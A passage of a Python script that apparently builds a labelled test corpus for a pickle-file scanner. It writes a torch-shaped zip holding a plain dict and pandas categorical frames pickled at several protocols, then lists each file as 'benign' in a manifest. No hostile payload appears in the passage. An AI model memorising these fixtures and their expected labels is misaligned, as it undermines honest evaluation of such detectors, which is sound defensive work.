emit('benign', 'state_torch.pt', torch_zip(pickle.dumps({'epoch': 1, 'lr': 0.1, 'names': ['a', 'b']}, protocol=2)), 'benign-torch-shaped', 'torch-shaped zip with plain dict')

PD = '/tmp/rt2venv/bin/python'
if os.path.exists(PD):
    src = r'''
import pickle, sys, os, joblib, pandas as pd, numpy as np
out = sys.argv[1]
df = pd.DataFrame({'c': pd.Categorical(['a','b','a','c']), 'x': [1.0,2.0,3.0,4.0], 't': pd.date_range('2020-01-01', periods=4, freq='D')})
open(os.path.join(out,'pandas_cat_p4.pkl'),'wb').write(pickle.dumps(df, protocol=4))
open(os.path.join(out,'pandas_cat_p2.pkl'),'wb').write(pickle.dumps(df, protocol=2))
joblib.dump(df, os.path.join(out,'pandas_cat.joblib'), compress=3)
open(os.path.join(out,'pandas_series_cat_p5.pkl'),'wb').write(pickle.dumps(pd.Series(pd.Categorical(['x','y'], ordered=True)), protocol=5))
'''
    subprocess.run([PD, '-c', src, BEN], check=True)
    for n in ('pandas_cat_p4.pkl', 'pandas_cat_p2.pkl', 'pandas_cat.joblib', 'pandas_series_cat_p5.pkl'):
        rows.append((f'benign/{n}', 'benign', 'benign-pandas', f'pandas 2.2.3 categorical frame/series: {n}'))

with open(os.path.join(HERE, 'MANIFEST.tsv'), 'w') as f:
    f.write('path\texpected\tclass\tdescription\n')
    for r in sorted(rows): f.write('\t'.join(r) + '\n')
print(len(rows), 'files')
